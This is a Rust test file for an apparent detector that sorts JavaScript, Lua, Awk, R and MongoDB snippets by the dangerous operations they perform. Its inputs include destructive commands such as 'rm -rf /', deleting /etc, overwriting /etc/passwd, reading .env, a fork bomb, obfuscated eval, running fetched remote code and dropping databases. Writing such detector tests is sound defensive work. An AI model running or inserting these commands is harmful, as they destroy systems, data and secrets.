use super::super::Language::{Awk, JavaScript, Lua, Mongo, R};
use super::check;

#[test]
fn javascript() {
    check(
        JavaScript,
        &[
            ("require('child_process').execSync('rm -rf /')", "$ rm -rf /"),
            ("require(\"node:child_process\").exec(\"id\", (e, o) => console.log(o))", "$ id"),
            ("const cp = require('child_process'); cp.execSync('id')", "$ id"),
            ("const { execSync } = require('child_process'); execSync('id')", "$ id"),
            ("const {execSync: e} = require('child_process'); e('id')", "$ id"),
            ("import {execSync as e} from 'node:child_process'; e('id')", "$ id"),
            ("import cp from 'child_process'; cp.execSync('id')", "$ id"),
            ("import * as cp from 'child_process'\ncp.execSync('id')", "$ id"),
            ("(await import('child_process')).execSync('id')", "$ id"),
            ("require('child_process')['exec' + 'Sync']('id')", "$ id"),
            ("const p = '/'; require('child_process').execSync(`rm -rf ${p}`)", "$ rm -rf /"),
            ("require('child_process').spawn('rm', ['-rf', '/'])", "[rm -rf /]"),
            ("require('child_process').spawnSync('rm -rf /', {shell: true})", "$ rm -rf /"),
            ("require('child_process').execSync('sh', {input: 'rm -rf /'})", "$ sh <rm -rf /"),
            ("process.mainModule.require('child_process').execSync('id')", "$ id"),
            ("import {$} from 'zx'; await $`rm -rf /`", "$ rm -rf /"),
            ("new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()", "[rm -rf /]"),
            ("require('fs').rmSync('/', {recursive: true, force: true})", "del! /"),
            ("require('fs').rmSync('/etc/passwd')", "del /etc/passwd"),
            ("require('fs').promises.rm('/', { recursive: true })", "del! /"),
            ("import fs from 'fs/promises'; await fs.rm('/', {recursive: true})", "del! /"),
            ("const fs = require('fs'); fs.unlinkSync(process.argv[2])", "del /second"),
            (
                "const fs = require('fs'); for (const f of fs.readdirSync('/etc')) fs.unlinkSync('/etc/' + f)",
                "del* /etc/*",
            ),
            (
                "const fs=require('fs');fs.readdirSync('/etc').forEach(f => fs.unlinkSync('/etc/' + f))",
                "del* /etc/*",
            ),
            (
                "const fs=require('fs');['/etc','/usr'].forEach(function (d) { fs.rmSync(d, {recursive:true}) })",
                "del! /etc; del! /usr",
            ),
            ("const fs=require('fs');['a','b'].forEach(fs.unlinkSync)", "del a; del b"),
            ("require('rimraf').sync('/')", "del! /"),
            ("require('fs').rmSync(require('os').homedir(), {recursive:true})", "del! ~"),
            ("require('fs').rmSync(process.env.HOME, {recursive:true})", "del! ~"),
            ("require('fs').rmSync(require('path').join('/', 'etc'), {recursive:true})", "del! /etc"),
            ("require('fs').writeFileSync('/etc/passwd', '')", "w /etc/passwd"),
            ("require('fs').readFileSync('.env', 'utf8')", "r .env"),
            ("process.kill(-1)", "kill -1"),
            (
                "eval(Buffer.from('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCd4Jyk=', 'base64').toString())",
                "del x; exec decoded constant",
            ),
            ("eval(atob('MSsx'))", "exec decoded constant"),
            ("new Function(\"require('fs').unlinkSync('x')\")()", "del x; exec constant"),
            ("fetch('http://x').then(r => r.text()).then(t => console.log(t))", "net"),
            ("eval(await (await fetch('http://x')).text())", "exec net; net"),
            ("while(1) require('child_process').fork(__filename)", "bomb"),
            ("console.log(\"require('child_process').execSync('id')\")", ""),
            ("// require('fs').unlinkSync('x')", ""),
            ("/* require('fs').unlinkSync('x') */ console.log(1)", ""),
            ("console.log(/execSync('id')/.test('x'))", ""),
            ("console.log(`unlinkSync('x')`)", ""),
            ("console.log(process.version)", ""),
            ("JSON.parse('{}'); [1,2].map(x => x * 2)", ""),
            ("const a = {rm: 1, exec: function () { return 2 }}", ""),
        ],
    );
}

#[test]
fn lua() {
    check(
        Lua,
        &[
            ("os.execute('rm -rf /')", "$ rm -rf /"),
            ("os.execute \"rm -rf /\"", "$ rm -rf /"),
            ("os.execute[[rm -rf /]]", "$ rm -rf /"),
            ("local x = os.execute; x('id')", "$ id"),
            ("local p = '/'; os.execute('rm -rf ' .. p)", "$ rm -rf /"),
            ("os['execute']('id')", "$ id"),
            ("io.popen('sh', 'w'):write('id')", "$ sh <id"),
            ("os.remove('/etc/passwd')", "del /etc/passwd"),
            ("for _, f in ipairs({'/a', '/b'}) do os.remove(f) end", "del ?"),
            ("io.open('/etc/passwd', 'w')", "w /etc/passwd"),
            ("load('os.execute(\"id\")')()", "$ id; exec constant"),
            ("print('os.execute(\"id\")')", ""),
            ("-- os.execute('id')", ""),
            ("--[[ os.execute('id') ]] print(1)", ""),
            ("print([[os.execute('id')]])", ""),
        ],
    );
}

#[test]
fn awk() {
    check(
        Awk,
        &[
            ("BEGIN { system(\"rm -rf /\") }", "$ rm -rf /"),
            ("{ system(\"rm \" $1) }", "$ rm ?"),
            ("BEGIN { \"id\" | getline x; print x }", "$ id"),
            ("BEGIN { while ((\"ls\" | getline x) > 0) print x }", "$ ls"),
            ("{ print \"rm -rf /\" | \"sh\" }", "$ sh <rm -rf /"),
            ("{ print \"rm\", $1 | \"sh\" }", "$ sh <rm ?"),
            ("{ print | \"sh\" }", "$ sh <?"),
            ("{ print $0 > \"/dev/sda\" }", "w /dev/sda"),
            ("{ print >> \"log\" }", "w log"),
            ("BEGIN { c = \"rm -rf /\"; system(c) }", "$ rm -rf /"),
            ("{ print $1 }", ""),
            ("/system(\"id\")/ { print }", ""),
            ("# system(\"id\")", ""),
            ("BEGIN { print \"system(\\\"id\\\")\" }", ""),
            ("$1 > 3 { print $2 }", ""),
            ("{ sum += $1 } END { print sum }", ""),
            ("BEGIN{FS=\":\"}{a[$1]++}END{for(i in a) print i, a[i]}", ""),
        ],
    );
}

#[test]
fn r_and_mongo() {
    check(
        R,
        &[
            ("system('rm -rf /')", "$ rm -rf /"),
            ("system2('rm', c('-rf', '/'))", "[rm -rf /]"),
            ("unlink('/', recursive = TRUE)", "del! /"),
            ("unlink('x')", "del x"),
            ("file.remove('x')", "del x"),
            ("eval(parse(text = 'system(\"id\")'))", "$ id; exec constant"),
            ("p <- '/etc'; unlink(p, recursive=TRUE)", "del! /etc"),
            ("print('system(1)')", ""),
            ("summary(c(1,2,3))", ""),
        ],
    );
    check(
        Mongo,
        &[
            ("db.dropDatabase()", "deletes a whole database"),
            ("use shop\ndb.dropDatabase()", "deletes a whole database"),
            ("db.getSiblingDB('x').dropDatabase()", "deletes a whole database"),
            ("db.users.drop()", "deletes a collection"),
            ("db.getCollection('x').drop()", "deletes a collection"),
            ("db['x'].drop()", "deletes a collection"),
            ("db.users.deleteMany({})", "deletes every document in a collection"),
            ("db.users.remove({})", "deletes every document in a collection"),
            ("db.users.deleteMany({a: 1})", ""),
            ("db.users.deleteMany({'a.b': {$lt: 3}})", ""),
            ("db.users.deleteOne({_id: 1})", ""),
            ("db.users.updateMany({}, {$set: {a: 1}})", "changes every document in a collection"),
            ("db.runCommand({dropDatabase: 1})", "deletes a whole database"),
            ("db.adminCommand({shutdown: 1})", "stops the database"),
            ("db.users.find({name: 'db.dropDatabase()'})", ""),
            ("// db.dropDatabase()", ""),
            ("db.users.find().limit(3)", ""),
            ("require('child_process').execSync('id')", "$ id"),
        ],
    );
}
